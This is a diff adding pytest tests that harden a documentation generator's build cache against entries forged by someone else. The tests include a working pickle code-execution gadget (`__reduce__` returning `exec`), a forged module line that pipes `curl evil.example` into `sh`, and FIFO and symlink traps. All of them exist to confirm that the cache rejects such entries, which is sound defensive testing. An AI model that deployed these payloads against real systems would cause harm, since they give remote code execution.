@@ -674,3 +674,285 @@ def test_workers_never_render_with_the_templates_of_an_earlier_build(
     assert build(corpus_docs, tmp_path / "second", *opts, "--jobs", "2", **kw) == 0
     text = (tmp_path / "second/graph_models/drive_item.py").read_text(encoding="utf-8")
     assert text.startswith("# added later\n")
+
+
+# --- a cache folder written by someone else -----------------------------------
+#
+# Whoever can write to the cache folder (another local user, a CI cache restored
+# from another branch) must not be able to run code, change the output or hang
+# the build. Each test forges entries, builds again with the cache and compares
+# with a `--no-cache` build made first.
+
+
+def _entries(cache_dir: Path) -> list[Path]:
+    """Every entry file (named by its 64-hex-digit key)."""
+    return sorted(p for p in cache_dir.rglob("*") if p.is_file() and len(p.name) == 64)
+
+
+def _reference(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, bytes]:
+    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "unused-cache"}
+    assert build(DOCS_SRC, tmp_path / "plain", "--no-cache", "--jobs", "1", **kw) == 0
+    return read_tree(tmp_path / "plain")
+
+
+class _RunsCode:
+    """Unpickling this writes `marker`: proof that a payload would run code."""
+
+    def __init__(self, marker: Path) -> None:
+        self.marker = marker
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        return (exec, (f"open({str(self.marker)!r}, 'w').write('ran')",))
+
+
+def test_pickle_payloads_with_recomputed_digests_run_no_code(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import hashlib
+    import hmac
+    import pickle
+
+    expected = _reference(tmp_path, monkeypatch)
+    cache_dir = tmp_path / "cache"
+    kw = {"monkeypatch": monkeypatch, "cache_dir": cache_dir}
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
+    marker = tmp_path / "marker"
+    payload = pickle.dumps(_RunsCode(marker))
+    pickle.loads(payload)  # the payload is live: loading it runs code ...
+    assert marker.read_text() == "ran"
+    marker.unlink()  # ... so a marker after the build would mean the cache ran it
+
+    entries = _entries(cache_dir)
+    assert {p.relative_to(cache_dir).parts[0] for p in entries} >= {"page", "build", "module"}
+    for i, entry in enumerate(entries):
+        kind, key = entry.relative_to(cache_dir).parts[0], entry.name
+        # The old format (a digest anyone can recompute), and the new one with a MAC
+        # under a key the forger holds (they cannot read the user's).
+        forged_mac = hmac.new(
+            b"the forger's own key", b"DGC2" + f"{len(kind)}:{kind}64:{key}".encode() + payload,
+            hashlib.sha256,
+        ).digest()
+        old = b"DGC1" + hashlib.sha256(payload).digest() + payload
+        entry.write_bytes(old if i % 2 else b"DGC2" + forged_mac + payload)
+    shutil.rmtree(tmp_path / "out")
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
+    assert not marker.exists()
+    assert read_tree(tmp_path / "out") == expected
+    # And the same with the other format on every entry.
+    for entry in _entries(cache_dir):
+        entry.write_bytes(b"DGC1" + hashlib.sha256(payload).digest() + payload)
+    assert build(DOCS_SRC, tmp_path / "out2", **kw) == 0
+    assert not marker.exists()
+    assert read_tree(tmp_path / "out2") == expected
+
+
+def test_forged_text_entries_inject_nothing_and_check_sees_the_injection(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The attack the old cache allowed: forge every module's text, then `check` said
+    "up to date" for a tree holding the injected code, since both came from the cache."""
+    import hashlib
+
+    expected = _reference(tmp_path, monkeypatch)
+    cache_dir = tmp_path / "cache"
+    kw = {"monkeypatch": monkeypatch, "cache_dir": cache_dir}
+    out = tmp_path / "out"
+    assert build(DOCS_SRC, out, **kw) == 0
+    evil = b"import os\nos.system('curl evil.example | sh')\n"
+    for entry in _entries(cache_dir):
+        entry.write_bytes(b"DGC1" + hashlib.sha256(evil).digest() + evil)
+    module = out / "graph_models" / "depot.py"
+    module.write_bytes(evil)  # what a served forged entry would have written
+    capsys.readouterr()
+    assert cli.main(["check", str(DOCS_SRC), "-o", str(out)]) == 1
+    assert "changed:" in capsys.readouterr().out
+    assert build(DOCS_SRC, out, **kw) == 0
+    assert read_tree(out) == expected
+    assert cli.main(["check", str(DOCS_SRC), "-o", str(out)]) == 0
+
+
+def test_swapped_valid_entries_change_nothing(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Entries are bound to their key: a valid entry moved under another key is a miss.
+    Two builds of different docs share the cache, then trade every entry of a kind."""
+    other_docs = tmp_path / "other-docs"
+    shutil.copytree(DOCS_SRC, other_docs)
+    _edit(other_docs / "depot.md", "depot resource type", "warehouse resource type")
+    _edit(other_docs / "depot.md", "microsoft.graph.depot", "microsoft.graph.warehouse")
+    cache_dir = tmp_path / "cache"
+    kw = {"monkeypatch": monkeypatch, "cache_dir": cache_dir}
+    expected = _reference(tmp_path, monkeypatch)
+    assert build(DOCS_SRC, tmp_path / "a", **kw) == 0
+    assert build(other_docs, tmp_path / "b", **kw) == 0
+    assert read_tree(tmp_path / "b") != expected
+
+    by_kind: dict[str, list[Path]] = {}
+    for entry in _entries(cache_dir):
+        by_kind.setdefault(entry.relative_to(cache_dir).parts[0], []).append(entry)
+    assert len(by_kind["build"]) == 2
+    for entries in by_kind.values():  # rotate the contents within each kind
+        contents = [p.read_bytes() for p in entries]
+        for path, data in zip(entries, contents[1:] + contents[:1], strict=True):
+            path.write_bytes(data)
+    shutil.rmtree(tmp_path / "a")
+    assert build(DOCS_SRC, tmp_path / "a", **kw) == 0
+    assert read_tree(tmp_path / "a") == expected
+
+
+def test_entries_that_are_not_regular_files_are_skipped_without_hanging(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """FIFOs (opening one for reading blocks until a writer comes), links to /dev/zero
+    (endless), to a file outside the cache and to another valid entry: all misses.
+    The build runs in a subprocess with a timeout, so a hang fails the test."""
+    from tests.cli_run import docgen
+
+    expected = _reference(tmp_path, monkeypatch)
+    cache_dir = tmp_path / "cache"
+    monkeypatch.setenv("DOCGEN_CACHE_DIR", str(cache_dir))
+    assert docgen("build", DOCS_SRC, "-o", tmp_path / "out", cwd=tmp_path).returncode == 0
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOKEN=hunter2\n")
+    entries = _entries(cache_dir)
+    assert len(entries) > 8
+    targets = [Path("/dev/zero"), secret]
+    contents = [p.read_bytes() for p in entries]
+    for i, entry in enumerate(entries):
+        valid = contents[i - 1]
+        entry.unlink()
+        if i % 4 == 0:
+            os.mkfifo(entry)
+        elif i % 4 == 3:
+            other = entry.with_name(entry.name + ".moved")  # a valid entry, other key
+            other.write_bytes(valid)
+            entry.symlink_to(other)
+        else:
+            entry.symlink_to(targets[i % 2])
+    for command, out in (("build", tmp_path / "out2"), ("check", tmp_path / "out2")):
+        done = docgen(command, DOCS_SRC, "-o", out, "--jobs", "1", cwd=tmp_path, timeout=120)
+        assert done.returncode == 0, done.stderr
+        assert "hunter2" not in done.stdout + done.stderr
+    assert read_tree(tmp_path / "out2") == expected
+    assert secret.read_text() == "TOKEN=hunter2\n"  # links replaced, targets untouched
+    assert all(p.is_file() and not p.is_symlink() for p in entries)  # written afresh
+
+
+# --- the key and the folder ---------------------------------------------------
+
+
+def test_an_entry_is_bound_to_its_kind_key_and_secret(tmp_path: Path) -> None:
+    cache = Cache(tmp_path / "c", SECRET)
+    key, other = "ab" * 32, "cd" * 32
+    cache.put("k", key, b"payload")
+    cache._path("k", other).parent.mkdir(parents=True)
+    shutil.copy(cache._path("k", key), cache._path("k", other))
+    cache._path("j", key).parent.mkdir(parents=True)
+    shutil.copy(cache._path("k", key), cache._path("j", key))
+    assert cache.get("k", key) == b"payload"
+    assert cache.get("k", other) is None  # copied to another key
+    assert cache.get("j", key) is None  # copied to another kind
+    assert Cache(tmp_path / "c", b"another-secret-0123456").get("k", key) is None
+
+
+def test_the_default_cache_folder_is_private_to_the_user(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, private_user_dirs: Path
+) -> None:
+    """Not beside the output (a shared /tmp/out would put it in /tmp): under the
+    user's cache home, mode 0700, with the key in a 0600 file of the config home."""
+    import stat
+
+    monkeypatch.delenv("DOCGEN_CACHE_DIR", raising=False)
+    shared = tmp_path / "shared-tmp"
+    shared.mkdir()
+    shared.chmod(0o1777)
+    out = shared / "out"
+    assert cli.main(["build", str(DOCS_SRC), "-o", str(out)]) == 0
+    assert sorted(p.name for p in shared.iterdir()) == ["out"]
+    folder = default_dir(out)
+    assert private_user_dirs / "cache" / "docgen" in folder.parents
+    assert _entries(folder)  # the build used it
+    for path in (folder, folder.parent, *(p for p in folder.rglob("*") if p.is_dir())):
+        info = path.stat()
+        assert stat.S_IMODE(info.st_mode) == 0o700, path
+        assert info.st_uid == os.getuid()
+    key = private_user_dirs / "config" / "docgen" / "cache-key"
+    assert stat.S_IMODE(key.stat().st_mode) == 0o600
+    assert len(key.read_text().strip()) == 64
+    # Another output folder gets another cache folder.
+    assert default_dir(shared / "other") != folder
+
+
+def test_a_cache_folder_others_can_write_is_not_used(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    cache_dir = tmp_path / "cache"
+    cache_dir.mkdir()
+    cache_dir.chmod(0o777)
+    kw = {"monkeypatch": monkeypatch, "cache_dir": cache_dir}
+    expected = _reference(tmp_path, monkeypatch)
+    capsys.readouterr()
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
+    err = capsys.readouterr().err
+    assert f"docgen: warning: build cache not used: cache folder {cache_dir} is writable" in err
+    assert list(cache_dir.iterdir()) == []
+    assert read_tree(tmp_path / "out") == expected
+
+
+def test_a_key_file_others_can_read_is_not_used(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    config = tmp_path / "config"
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(config))
+    (config / "docgen").mkdir(parents=True, mode=0o700)
+    key = config / "docgen" / "cache-key"
+    key.write_text("0123456789abcdef0123456789abcdef\n")
+    key.chmod(0o644)
+    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
+    capsys.readouterr()
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
+    err = capsys.readouterr().err
+    assert f"build cache not used: {key} is readable or writable by others" in err
+    assert _entries(tmp_path / "cache") == []
+    key.chmod(0o600)
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
+    assert "build cache not used" not in capsys.readouterr().err
+    assert _entries(tmp_path / "cache")
+
+
+def test_a_key_from_the_environment_replaces_the_key_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """CI passes its key in; entries written under one key are misses under another."""
+    kw = {"monkeypatch": monkeypatch, "cache_dir": tmp_path / "cache"}
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    monkeypatch.setenv("DOCGEN_CACHE_KEY", "ci-secret-0123456789")
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0
+    assert not (tmp_path / "config").exists()  # no key file made
+    monkeypatch.setattr(extract_mod, "extract", _boom)
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 0  # answered from the cache
+    monkeypatch.setenv("DOCGEN_CACHE_KEY", "another-secret-0123456789")
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 1  # nothing usable: extracts
+    monkeypatch.setenv("DOCGEN_CACHE_KEY", "short")
+    capsys.readouterr()
+    assert build(DOCS_SRC, tmp_path / "out", **kw) == 1
+    assert "$DOCGEN_CACHE_KEY is shorter than 16 characters" in capsys.readouterr().err
+
+
+def test_model_data_round_trips_and_rejects_what_it_did_not_write() -> None:
+    from docgen.cache import from_data, to_data
+    from docgen.model import Diagnostic, Model, Property, TypeDef
+
+    prop = Property("a", "a", "Edm.String", False, False, None, True, "d", 3, enum="ns.e")
+    t = TypeDef("x", "ns", "complex", "x.md", 1, "", "X", "x", key=("id",), properties=(prop,))
+    model = Model((t,), (Diagnostic("x.md", 1, 2, "warning", "DG100", "m"),))
+    data = to_data(model)
+    assert from_data(Model, data) == model
+    for bad in (
+        (data[0],),  # a field missing
+        ((data[0][0][:-1],), data[1]),  # a TypeDef with a field missing
+        (data[0], ((["x.md"], 1, 2, "warning", "DG100", "m"),)),  # a list where a str goes
+        [data[0], data[1]],  # a list where a tuple goes
+    ):
+        with pytest.raises((TypeError, ValueError)):
+            from_data(Model, bad)
